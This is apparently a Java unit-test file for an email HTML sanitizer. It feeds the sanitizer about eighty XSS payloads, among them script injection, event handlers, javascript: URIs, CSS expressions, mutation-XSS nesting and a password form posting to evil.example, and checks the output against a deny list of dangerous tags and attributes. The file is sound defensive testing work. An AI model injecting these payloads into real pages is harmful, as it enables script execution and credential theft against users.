package io.svara.channels.html;

import static org.assertj.core.api.Assertions.assertThat;

import io.svara.kernel.ProcessorTime;
import java.time.Duration;
import java.util.Locale;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

@Timeout(20)
class HtmlCleanerTests {

    private static final String[] NEVER = {
        "<script",
        "<style",
        "<iframe",
        "<object",
        "<embed",
        "<form",
        "<input",
        "<button",
        "<svg",
        "<math",
        "<base",
        "<meta",
        "<link",
        "<frame",
        "<applet",
        "<template",
        "<textarea",
        "<noscript",
        "<audio",
        "<video",
        " srcset",
        " background=",
        " action=",
        " id=",
        " class=",
        " name=",
        "url(",
        "position",
        "z-index",
        "expression",
        "@import",
        "behavior",
        "-moz-binding",
        "<!--",
        " src=\"http",
        " src=\"//"
    };

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<<script>alert(1);//<</script>",
                "<script/xss src=\"http://evil.example/x.js\"></script>",
                "<script\n>alert(1)</script\n>",
                "<img src=x onerror=alert(1)>",
                "<img src=x:alert(alt) onerror=eval(src) alt=0>",
                "<img \"\"\"><script>alert(1)</script>\">",
                "<img src=\"javascript:alert(1)\">",
                "<img src=`javascript:alert(1)`>",
                "<img/src='x'/onerror=alert(1)>",
                "<img src=\"http://evil.example/a.png\" srcset=\"http://evil.example/b.png 2x\">",
                "<img src=x onerror\n=\nalert(1)>",
                "<body onload=alert(1)>",
                "<body background=\"http://evil.example/x.png\">",
                "<table background=\"http://evil.example/x.png\"><td background=\"javascript:alert(1)\">",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
                "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
                "<math href=\"javascript:alert(1)\">x</math>",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=\"javascript:alert(1)\"></object>",
                "<embed src=\"javascript:alert(1)\">",
                "<applet code=x></applet>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
                "<a href=\"java&#x09;script:alert(1)\">x</a>",
                "<a href=\"java\nscript:alert(1)\">x</a>",
                "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
                "<a href=\" &#14; javascript:alert(1)\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
                "<a href=\"file:///etc/passwd\">x</a>",
                "<a href=\"x\" onclick=alert(1) onmouseover=\"alert(1)\">x</a>",
                "<a href='http://a.example' style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:99'>x</a>",
                "<img src=\"data:image/svg+xml;base64,PHN2Zy8+\">",
                "<img src=\"data:text/html,x\">",
                "<div style=\"background:url(javascript:alert(1))\">x</div>",
                "<div style=\"background-image:url('http://evil.example/t.gif')\">x</div>",
                "<div style=\"width:expression(alert(1))\">x</div>",
                "<div style=\"wid\\74h:expr/**/ession(alert(1))\">x</div>",
                "<div style=\"behavior:url(x.htc);-moz-binding:url(x.xml#y)\">x</div>",
                "<div style=\"position:absolute;top:0;left:0\">x</div>",
                "<div style=\"list-style-image:url(http://evil.example/x)\">x</div>",
                "<div style=\"content:url(http://evil.example/x);cursor:url(http://evil.example/x)\">x</div>",
                "<div style=\"color:red;}body{background:url(http://evil.example)\">x</div>",
                "<style>@import 'http://evil.example/x.css';</style>",
                "<style>body{background:url(http://evil.example)}</style>",
                "<link rel=stylesheet href=http://evil.example/x.css>",
                "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
                "<base href=\"javascript:alert(1)//\">",
                "<form action=\"http://evil.example\"><input name=password><button formaction=javascript:alert(1)>x</button></form>",
                "<isindex action=javascript:alert(1) type=image>",
                "<input autofocus onfocus=alert(1)>",
                "<select autofocus onfocus=alert(1)></select>",
                "<textarea><script>alert(1)</script></textarea>",
                "<details open ontoggle=alert(1)>x</details>",
                "<video><source onerror=\"alert(1)\"></video>",
                "<audio src=x onerror=alert(1)>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
                "<template><script>alert(1)</script></template>",
                "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
                "<!--><img src=x onerror=alert(1)>-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?xml version=\"1.0\"?><script>alert(1)</script>",
                "<xml><i><b>&lt;img src=x onerror=alert(1)&gt;</b></i></xml><div datasrc=#I datafld=B dataformatas=html></div>",
                "<p title=\"</p><img src=x onerror=alert(1)>\">x</p>",
                "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
                "<title><img src=x onerror=alert(1)></title>",
                "<plaintext><script>alert(1)</script>",
                "<xmp><script>alert(1)</script></xmp>",
                "<div id=app class=admin name=x>x</div>",
                "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
                "<img src=\"//evil.example/pixel.gif\">",
                "<a href=\"http://a.example\" target=_self rel=opener>x</a>"
            })
    void leavesNothingThatCouldAct(String attack) {
        var html = HtmlCleaner.clean(attack).html().toLowerCase(Locale.ROOT);

        // what is left as text is escaped, so only tags and attributes are looked at
        var markup = html.replaceAll(">[^<]*", ">").replaceAll("^[^<]*", "");
        assertThat(markup).doesNotContain(NEVER).doesNotContainPattern("<[^>]*\\son[a-z]+\\s*=");
        assertThat(markup).doesNotContain("javascript:", "vbscript:", "data:text", "data:image/svg", "file:");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
                    <p>Hej</p>                                                        | <p>Hej</p>
                    <b>a</b> <i>b</i> <u>c</u>                                        | <b>a</b> <i>b</i> <u>c</u>
                    <ul><li>a</li></ul>                                               | <ul><li>a</li></ul>
                    <blockquote>q</blockquote>                                        | <blockquote>q</blockquote>
                    <font color="#ff0000" face="Arial" size="2">x</font>              | <font color="#ff0000" face="Arial" size="2">x</font>
                    <span style="color:red;font-size:12px">x</span>                   | <span style="color:red;font-size:12px">x</span>
                    <table width="600" cellpadding="0"><tbody><tr><td align="center" bgcolor="#eee">x</td></tr></tbody></table> | <table width="600" cellpadding="0"><tbody><tr><td align="center" bgcolor="#eee">x</td></tr></tbody></table>
                    <a href="https://a.example/x">x</a>                               | <a href="https://a.example/x" target="_blank" rel="noopener noreferrer nofollow">x</a>
                    <a href="tel:+4712345678">x</a>                                   | <a href="tel:+4712345678" target="_blank" rel="noopener noreferrer nofollow">x</a>
                    <a href="/api/tickets">x</a>                                      | x
                    <a name="top">x</a>                                               | x
                    <img src="https://a.example/x.png" width="10" alt="Logo">         | <img data-src="https://a.example/x.png" width="10" alt="Logo" />
                    <img src="//a.example/x.png">                                     | <img data-src="https://a.example/x.png" />
                    <img src="cid:part1">                                             | <img data-cid="part1" />
                    <img src="data:image/png;base64,iVBORw0KGgo=">                    | <img src="data:image/png;base64,iVBORw0KGgo&#61;" />
                    """)
    void keepsWhatAMailNeeds(String source, String html) {
        assertThat(HtmlCleaner.clean(source.strip()).html().replace("&#43;", "+"))
                .isEqualTo(html);
    }

    @Test
    void countsTheImagesThatWaitForLeave() {
        var clean = HtmlCleaner.clean("<img src=http://a.example/1><img src=https://a.example/2><img src=cid:x>");

        assertThat(clean.remoteImages()).isEqualTo(2);
        assertThat(clean.version()).isEqualTo(HtmlCleaner.VERSION);
        assertThat(clean.truncated()).isFalse();
    }

    @Test
    void putsInlineImagesInTheirPlace() {
        var clean = HtmlCleaner.clean("<img src=\"cid:Image%40Home\" alt=a><img src=\"cid:gone\">");

        var html = clean.withInlineImages(id -> id.equals("Image@Home") ? "/api/attachments/7?a=1&b=\"2\"" : null);

        assertThat(html)
                .contains("src=\"/api/attachments/7?a=1&amp;b=&quot;2&quot;\"")
                .contains("data-cid=\"gone\"");
    }

    @Test
    void cleansWhatItHasCleanedToTheSame() {
        var once = HtmlCleaner.clean("<p style='color:red'>a<b>b</p><table><tr><td>x")
                .html();

        assertThat(HtmlCleaner.clean(once).html()).isEqualTo(once);
    }

    @Test
    void cutsASourceThatIsTooLong() {
        var clean = HtmlCleaner.clean("<p>word</p>".repeat(300_000));

        assertThat(clean.truncated()).isTrue();
        assertThat(clean.text()).startsWith("word\n\nword");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<div>",
                "<b>",
                "<blockquote>",
                "<table>",
                "<table><tr><td>",
                "<ul><li>",
                "<font>",
                "<a href=http://x.example>",
                "<p>",
                "<i><b><u>",
                "</div>",
                "<",
                "<!--",
                "&#",
                "<img src=\"cid:",
                "<p style=\"color:",
                "<svg>",
                "<select>"
            })
    void staysFastHoweverDeepItIsNested(String opening) {
        var repeated = opening.repeat(100_000);
        var source = repeated.substring(0, Math.min(repeated.length(), 2_000_000));

        assertThat(ProcessorTime.of(() -> HtmlCleaner.clean(source))).isLessThan(Duration.ofSeconds(5));
    }
}
